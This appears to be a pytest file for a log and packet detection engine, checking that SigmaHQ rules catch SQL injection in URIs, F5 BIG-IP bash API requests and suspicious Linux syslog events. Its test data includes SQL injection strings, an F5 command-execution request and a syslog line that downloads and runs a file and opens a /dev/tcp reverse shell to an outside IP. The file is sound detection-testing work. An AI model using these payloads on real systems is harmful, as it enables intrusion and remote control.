"""SigmaHQ's rules on edusoc events: cs-uri-query as the rules read it, keyword search without the '+'
false positive, product: linux rules on auth/syslog lines, request Content-Type and body length."""
from __future__ import annotations

from pathlib import Path

import pytest
from scapy.utils import wrpcap

from detection_rules import DetectionEngine, load_ruleset
from sensors.logfiles import LineParser
from sensors.pcap import read_pcap
from sensors.samples.http_craft import http_request, http_response, tcp_exchange
from sensors.weblog import parse_line
from tests.conftest import corpus
from tests.sensor_traffic import CLIENT, SERVER, T0

SQLI_IN_URI = "5513deaf-f49a-46c2-a6c8-3f111b5cb453"  # SigmaHQ: SQL Injection Strings In URI
F5_BASH = "85254a62-22be-4239-b79c-2ec17e566c37"  # SigmaHQ: F5 BIG-IP iControl Rest API Command Execution - Webserver


def access_line(target: str, method: str = "GET", status: int = 200) -> bytes:
    return (f'203.0.113.7 - - [02/Nov/2026:09:10:03 +0800] "{method} {target} HTTP/1.1" {status} 512 "-" '
            f'"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"').encode()


def fired(rule_dir: Path, events: list[dict[str, object]]) -> set[str]:
    engine = DetectionEngine(load_ruleset([rule_dir]))
    return {alert.rule_id for event in events for alert in engine.process(event)}


BENIGN_SEARCHES = ["/search.php?q=select+a+course", "/search.php?q=how+to+order+by+date",
                   "/kb/?q=select+version()+of+the+syllabus&page=2", "/lib/find?title=union+select+committee"]
INJECTIONS = ["/news.php?id=1%20UNION%20SELECT%201,2,3--", "/news.php?id=1'%20or%201=1%23",
              "/item.php?id=1%27%20UNION%20ALL%20SELECT%20NULL,table_schema%20FROM%20information_schema.tables--",
              "/list.php?sort=id%20order%20by%203--", "/view.php?id=-1 union select @@version"]


def test_sql_injection_strings_in_uri_spares_plus_encoded_searches_but_not_injections():
    rules = corpus("sigma", "rules", "web", "webserver_generic", "web_sql_injection_in_access_logs.yml")
    benign = [parse_line(access_line(target)) for target in BENIGN_SEARCHES]
    attacks = [parse_line(access_line(target)) for target in INJECTIONS]
    engine = DetectionEngine(load_ruleset([rules]))
    assert [bool(engine.process(event)) for event in benign] == [False] * len(benign)
    assert [bool(engine.process(event)) for event in attacks] == [True] * len(attacks)


def test_a_path_based_sigmahq_rule_fires_from_logs_and_from_packets(tmp_path):
    rules = corpus("sigma", "rules", "web", "webserver_generic", "web_f5_tm_utility_bash_api_request.yml")
    target = "/mgmt/tm/util/bash"
    from_log = parse_line(access_line(target, "POST"))
    body = b'{"command":"run","utilCmdArgs":"-c id"}'
    wrpcap(str(tmp_path / "f5.pcap"), tcp_exchange(T0, CLIENT, SERVER, 41000, http_request(
        "POST", target, "bigip.school.edu.cn", body, content_type="application/json"), http_response(200, b"{}")))
    events, _ = read_pcap(tmp_path / "f5.pcap")
    from_packets = [e for e in events if e["event.dataset"] == "edusoc.http"]
    assert fired(rules, [from_log]) == {F5_BASH}
    assert fired(rules, from_packets) == {F5_BASH}
    assert fired(rules, [parse_line(access_line("/mgmt/tm/util/bash-docs.html", "POST"))]) == set()


def test_sigmahq_linux_builtin_rules_compile_and_fire_on_auth_and_syslog_lines(clock):
    rules = corpus("sigma", "rules", "linux", "builtin")
    loaded = load_ruleset([rules])
    assert loaded.errors == [] and len(loaded.rules) == len(list(rules.rglob("*.yml")))
    auth, syslog = LineParser("auth", clock), LineParser("syslog", clock)
    lines = [
        (auth, b"<38>Nov  2 09:12:01 web01 sshd[2211]: Corrupted MAC on input."),  # service: sshd
        (syslog, b"<86>Nov  2 09:12:05 web01 useradd[1337]: new user: name=backup1, UID=0, GID=0, "
                 b"home=/root, shell=/bin/bash"),  # privileged user creation
        (syslog, b"<13>Nov  2 09:12:09 web01 bash[900]: cd /tmp; wget http://198.51.100.4/x; chmod +x x; "
                 b"bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"),
    ]
    events = [parser.parse(line) for parser, line in lines]
    assert [e["event.dataset"] for e in events] == ["edusoc.syslog", "edusoc.syslog", "edusoc.syslog"]
    engine = DetectionEngine(loaded)
    titles = [sorted(alert.rule_title for alert in engine.process(event)) for event in events]
    assert "Suspicious OpenSSH Daemon Error" in titles[0]
    assert "Privileged User Has Been Created" in titles[1]
    assert any("Reverse Shell" in title or "/dev/tcp" in title.lower() for title in titles[2]), titles[2]
    quiet = auth.parse(b"<38>Nov  2 09:13:00 web01 sshd[2212]: Accepted publickey for alice from 10.20.1.5 port 50022 ssh2")
    assert quiet["event.dataset"] == "edusoc.auth" and engine.process(quiet) == []


@pytest.mark.parametrize("logsource", ["category: webserver", "product: zeek\n    service: http"])
def test_request_content_type_cookie_and_zeek_body_length_are_mapped(tmp_path, logsource):
    (tmp_path / "rule.yml").write_text(f"""title: Large JSON Upload With A Session Cookie
id: 0f6a3f62-1b9c-4d7e-9a51-3c2b8d4e5f60
status: experimental
logsource:
    {logsource}
detection:
    selection:
        {'cs-content-type' if 'webserver' in logsource else 'orig_mime_types'}|startswith: 'application/json'
        {'cs-cookie' if 'webserver' in logsource else 'cookie'}|contains: 'PHPSESSID='
    size:
        {'cs-bytes' if 'webserver' in logsource else 'request_body_len'}|gt: 1000
    condition: selection and size
level: low
""")
    big, small = b'{"data":"' + b"x" * 2000 + b'"}', b'{"data":"x"}'
    packets = []
    for i, body in enumerate((big, small)):
        packets += tcp_exchange(T0 + i, CLIENT, SERVER, 41000 + i, http_request(
            "POST", "/api/save", "www.school-no1.edu.cn", body, content_type="application/json; charset=utf-8",
            headers={"Cookie": "PHPSESSID=77aa; lang=zh"}), http_response(200, b"{}", "application/json"))
    wrpcap(str(tmp_path / "json.pcap"), packets)
    events, _ = read_pcap(tmp_path / "json.pcap")
    engine = DetectionEngine(load_ruleset([tmp_path / "rule.yml"]))
    hits = [e["http.request.body.bytes"] for e in events if engine.process(e)]
    assert hits == [len(big)]
